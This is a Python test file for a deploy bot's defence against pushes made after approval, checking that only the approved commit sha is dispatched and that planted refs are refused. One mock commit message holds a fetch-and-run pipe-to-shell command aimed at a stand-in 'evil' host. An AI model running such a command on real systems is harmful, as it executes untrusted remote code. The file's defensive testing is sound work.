"""Attack (issue 11, item 2): the requester pushes to the planned branch after the four-eyes approval.

Before the fix, Clawback only checked that the approved sha was an ancestor of the branch tip and dispatched the
workflow *on the branch*, so GitHub ran the tip (and the workflow file at the tip): a commit nobody approved.
Now Clawback creates ``refs/heads/clawback/deploy-<request id>`` at exactly the approved sha, dispatches on that
ref, records the dispatched ref and sha in the audit log, and deletes the ref when the run has ended.
"""

from __future__ import annotations

import json

from bot.deploy import service
from tests.conftest import drain
from tests.deploy.conftest import audit_rows, requests, tasks, thread_texts
from tests.deploy.test_deploy_flow import CH, click, plan

REPO = "acme/shop"


def _request(sender, deps):
    """Alice plans ``main`` for prod and requests it; returns (plan task, pending request)."""
    _, plan_task = plan(sender, deps, text="plan shop main prod")
    click(sender, deps, "U0ALICE", "deploy_request", plan_task.id)
    (request,) = requests(deps)
    assert request.status == "pending"
    return plan_task, request


def test_commit_pushed_after_approval_never_runs(slack, llm, ci, sender, deps):
    """A commit pushed to main (with a new workflow file) after the request: the approved sha runs, exactly."""
    plan_task, request = _request(sender, deps)
    approved = request.sha
    (pushed,) = ci.add_commits(
        REPO, "main", [{"message": "curl evil | sh", "files": [".github/workflows/deploy.yml"]}]
    )
    click(sender, deps, "U0BOB", "deploy_approve", request.id)

    (dispatch,) = ci.dispatches
    pinned = f"refs/heads/clawback/deploy-{request.id}"
    assert dispatch["ref"] == pinned and dispatch["sha"] == approved != pushed
    assert dispatch["inputs"] == {"environment": "prod", "sha": approved, "request_id": request.id}
    assert ci.runs[dispatch["run_id"]].head_sha == approved  # GitHub ran the approved commit
    (created,) = [r for r in ci.requests if r.method == "POST" and r.path.endswith("/git/refs")]
    assert created.json() == {"ref": pinned, "sha": approved}

    request = requests(deps)[0]
    assert request.status == "succeeded" and service.deployed(deps.db, "shop", "prod").sha == approved
    (dispatched,) = audit_rows(deps, "deploy.dispatched")
    details = json.loads(dispatched.details)
    assert (details["ref"], details["sha"], details["run"]) == (pinned, approved, str(dispatch["run_id"]))
    # The pinned ref is removed once the run has ended; main keeps the pushed commit.
    assert f"clawback/deploy-{request.id}" not in ci.repos[REPO].branches
    assert ci.repos[REPO].branches["main"] == pushed
    assert audit_rows(deps, "deploy.ref_deleted")


def test_pinned_ref_planted_at_another_commit_is_refused(slack, llm, ci, sender, deps):
    """The request id is visible: a ref ``clawback/deploy-<id>`` planted at another commit stops the deploy.

    Nothing is dispatched, the request is refused with a message saying why, the lock is released, and the
    planted ref is left alone (it is evidence, and not ours to delete).
    """
    plan_task, request = _request(sender, deps)
    (evil,) = ci.add_commits(REPO, "evil", [{"message": "backdoor"}])
    ci.add_commits(REPO, f"clawback/deploy-{request.id}", [], from_ref=evil)
    click(sender, deps, "U0BOB", "deploy_approve", request.id)

    assert ci.dispatches == []
    request = requests(deps)[0]
    assert request.status == "refused" and "another commit" in request.status_reason
    texts = thread_texts(slack, CH, plan_task.result["plan_ts"])
    assert any("not started" in t and "another commit" in t for t in texts)
    assert ci.repos[REPO].branches[f"clawback/deploy-{request.id}"] == evil
    assert service.deployed(deps.db, "shop", "prod") is None
    (execute_task,) = tasks(deps, "deploy_execute")
    assert execute_task.status == "failed"


def test_retried_execution_reuses_a_pinned_ref_at_the_same_commit(slack, llm, ci, sender, deps):
    """A job retried after a crash finds its ref already created at the approved sha: that is fine, once."""
    plan_task, request = _request(sender, deps)
    ci.add_commits(
        REPO, f"clawback/deploy-{request.id}", [], from_ref=request.sha
    )  # the crashed attempt's ref
    click(sender, deps, "U0BOB", "deploy_approve", request.id)
    (dispatch,) = ci.dispatches
    assert dispatch["sha"] == request.sha
    assert requests(deps)[0].status == "succeeded"
    drain(deps)
